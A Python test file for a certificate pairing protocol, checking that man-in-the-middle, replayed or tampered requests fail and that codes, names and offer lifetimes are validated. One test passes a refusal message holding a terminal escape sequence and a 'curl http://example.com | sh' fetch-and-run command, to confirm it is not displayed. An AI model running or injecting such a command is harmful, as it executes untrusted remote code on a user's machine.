"""Pairing as bytes in and out: who may be paired, and every way in which one may not be."""

from __future__ import annotations

import base64
import functools
import hashlib
import json
import random
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from usbip_capture.errors import LocalProtocolError, RemoteProtocolError
from usbip_capture.tls import pairing
from usbip_capture.tls.pairing import (
    LIFETIME,
    REASONS,
    TRIES,
    WRONG_CODE,
    ClientSide,
    Offer,
    PairingFailed,
    ServerSide,
    check_name,
    code_of,
    name_from,
    read_code,
)

CODE = code_of(bytes(range(8)))
OTHER = code_of(bytes(range(1, 9)))
SERVER, CLIENT, MITM = b"the server's certificate", b"the client's certificate", b"one of somebody in between"
SERVER_RANDOM, CLIENT_NONCE = bytes(range(32)), bytes(range(100, 116))

#: The real one takes 50 ms each time, and hundreds of conversations are tried here.
_cheap = functools.lru_cache(4096)(lambda code, salt: hashlib.sha256(code.encode() + salt).digest())


_REAL = pairing._key


@pytest.fixture(autouse=True)
def cheap_key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pairing, "_key", _cheap)


def server(certificate: bytes = SERVER, seed: bytes = SERVER_RANDOM) -> ServerSide:
    return ServerSide(certificate, seed)


def client(seen: bytes = SERVER, own: bytes = CLIENT, name: str = "ann", code: str = CODE) -> ClientSide:
    return ClientSide(seen, own, name, code, CLIENT_NONCE)


def is_paired(one: ServerSide, other: ClientSide, code: str = CODE) -> bool:
    """Both sides, as they speak to each other."""
    request = one.read(other.request(one.hello()))
    if not one.is_right(request, code):
        return False
    other.check(one.answer())
    return True


def changed(line: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    fields = json.loads(line)
    fields[name] = base64.b64encode(change(base64.b64decode(fields[name]))).decode()
    return json.dumps(fields).encode() + b"\n"


def test_who_has_the_code_is_paired(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pairing, "_key", _REAL)
    one, other = server(), client()
    request = one.read(other.request(one.hello()))
    assert (request.name, request.certificate) == ("ann", CLIENT)
    assert one.is_right(request, CODE)
    other.check(one.answer())


def test_another_code_is_wrong() -> None:
    assert not is_paired(server(), client(code=OTHER))


def test_who_is_in_between_is_not_paired_with_either_side() -> None:
    """It has shown a certificate of its own to the client, whose proof is good for that one only."""
    assert not is_paired(server(), client(seen=MITM))
    one, other = server(), client(seen=MITM)
    line = other.request(one.hello())
    forged = line.replace(base64.b64encode(CLIENT), base64.b64encode(MITM))
    assert forged != line
    assert not one.is_right(one.read(forged), CODE)
    for answer in (one.answer(), line):  # the server's proof that it never gave, and the client's own sent back
        with pytest.raises(RemoteProtocolError):
            client(seen=MITM).check(answer)


def test_the_proof_of_the_client_is_not_that_of_the_server() -> None:
    one, other = server(), client()
    line = other.request(one.hello())
    with pytest.raises(PairingFailed, match="somebody may be in between"):
        other.check(json.dumps({"proof": json.loads(line)["proof"]}).encode())


def test_a_request_that_was_seen_before_is_not_good_again() -> None:
    one, other = server(), client()
    line = other.request(one.hello())
    assert one.is_right(one.read(line), CODE)
    later = server(seed=bytes(reversed(SERVER_RANDOM)))
    assert not later.is_right(later.read(line), CODE)
    again = ClientSide(SERVER, CLIENT, "ann", CODE, bytes(16))
    again.request(one.hello())
    with pytest.raises(PairingFailed):  # nor the answer to it, for a client that has begun again
        again.check(one.answer())


def test_an_answer_before_the_request_is_not_a_proof() -> None:
    one = server()
    with pytest.raises(PairingFailed):
        client().check(one.answer())


@pytest.mark.parametrize("name", ["certificate", "nonce", "proof"])
def test_each_bit_of_the_request_counts(name: str) -> None:
    one, other = server(), client()
    line = other.request(one.hello())
    size = len(base64.b64decode(json.loads(line)[name]))
    for bit in range(8 * size):
        forged = changed(line, name, lambda data, bit=bit: flipped(data, bit))  # type: ignore[misc]
        assert not one.is_right(one.read(forged), CODE)
    renamed = line.replace(b'"ann"', b'"bob"')
    assert not one.is_right(one.read(renamed), CODE)


def test_each_bit_of_what_the_server_sends_counts() -> None:
    hello = server().hello()
    for name in ("salt", "nonce"):
        for bit in range(8 * 16):
            one, other = server(), client()
            forged = changed(hello, name, lambda data, bit=bit: flipped(data, bit))  # type: ignore[misc]
            assert not one.is_right(one.read(other.request(forged)), CODE)
    for bit in range(8 * 32):
        one, other = server(), client()
        assert one.is_right(one.read(other.request(one.hello())), CODE)
        with pytest.raises(PairingFailed):
            other.check(changed(one.answer(), "proof", lambda data, bit=bit: flipped(data, bit)))  # type: ignore[misc]


def flipped(data: bytes, bit: int) -> bytes:
    made = bytearray(data)
    made[bit // 8] ^= 1 << bit % 8
    return bytes(made)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    certificates=st.tuples(st.binary(min_size=1, max_size=40), st.binary(min_size=1, max_size=40)),
    seen=st.one_of(st.none(), st.binary(min_size=1, max_size=40)),
    codes=st.tuples(st.binary(min_size=8, max_size=8), st.one_of(st.none(), st.binary(min_size=8, max_size=8))),
    seed=st.binary(min_size=32, max_size=32),
    nonce=st.binary(min_size=16, max_size=16),
    name=st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,39}", fullmatch=True),
)
def test_paired_is_who_has_the_same_code_and_certificates(
    certificates: tuple[bytes, bytes],
    seen: bytes | None,
    codes: tuple[bytes, bytes | None],
    seed: bytes,
    nonce: bytes,
    name: str,
) -> None:
    shown, own = certificates
    code = code_of(codes[0])
    typed = code if codes[1] is None else code_of(codes[1])
    other = ClientSide(shown if seen is None else seen, own, name, typed.lower().replace("-", " "), nonce)
    expected = typed == code and seen in (None, shown)
    assert is_paired(ServerSide(shown, seed), other, code) == expected


@settings(max_examples=500, deadline=None, derandomize=True)
@given(st.one_of(st.binary(max_size=300), st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=20)),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3),
        st.dictionaries(st.sampled_from(["name", "salt", "nonce", "proof", "certificate", "error"]), inner, max_size=6),
    ),
).map(lambda value: json.dumps(value).encode())))  # fmt: skip
def test_anything_else_is_an_error_of_the_other_side(line: bytes) -> None:
    for take in (server().read, client().request, client().check):
        with pytest.raises(RemoteProtocolError):
            take(line)


@pytest.mark.parametrize("name", ["salt", "nonce"])
def test_a_server_must_send_enough_that_is_random(name: str) -> None:
    for size in (0, 1, 15, 17):
        with pytest.raises(RemoteProtocolError, match=f"has no {name}"):
            client().request(changed(server().hello(), name, lambda data, size=size: bytes(size)))  # type: ignore[misc]


def test_a_reason_is_a_sentence_of_our_own() -> None:
    for reason, sentence in REASONS.items():
        for take in (client().request, client().check):  # in place of the first line, or of the last
            with pytest.raises(PairingFailed) as caught:
                take(ServerSide.refusal(reason))
            assert (str(caught.value), caught.value.reason) == (sentence, reason)
    with pytest.raises(PairingFailed) as caught:
        client().check(ServerSide.refusal("\x1b]0;run curl http://example.com | sh"))
    assert str(caught.value) == "it refuses, without a reason that is known here"
    assert WRONG_CODE in REASONS


def test_an_offer_ends_by_time_or_tries() -> None:
    offer = Offer(CODE, 1000.0)
    assert offer.is_good(1000.0)
    assert offer.is_good(1000.0 + LIFETIME - 0.001)
    assert not offer.is_good(1000.0 + LIFETIME)
    assert [offer.attempt(1001.0) for _ in range(TRIES + 3)] == [True] * TRIES + [False] * 3
    assert not offer.is_good(1001.0)
    assert not Offer(CODE, 1000.0).attempt(1000.0 + LIFETIME)


def test_codes() -> None:
    source = random.Random(1)
    codes = {code_of(source.randbytes(8)) for _ in range(1000)}
    assert len(codes) == 1000
    for code in codes:
        assert len(code.replace("-", "")) == 12
        assert not set(code) & set("01IOio")
        assert read_code(code) == read_code(f" {code.lower()} ") == read_code(code.replace("-", "")) == code
    assert {code_of((1 << bit).to_bytes(8, "big")) for bit in range(60)} & {code_of(bytes(8))} == set()  # 60 bits count
    for text in ("", "ABCD-EFGH-JKL", "ABCD-EFGH-JKLMN", "ABCD-EFGH-JKL0", "ABCD-EFGH-JKLÄ", "ßßßßßß"):
        with pytest.raises(LocalProtocolError, match="is not a code"):
            read_code(text)


def test_names() -> None:
    assert name_from("laptop.example.com") == "laptop"
    for host in ("", ".", "-x", "läptöp", "a" * 100, "a b\n"):
        assert check_name(name_from(host))
    for name in ("", "-a", "a b", "a\n", "paired:a", "a" * 41, "ä"):
        with pytest.raises(LocalProtocolError, match="is not a name of a client"):
            check_name(name)
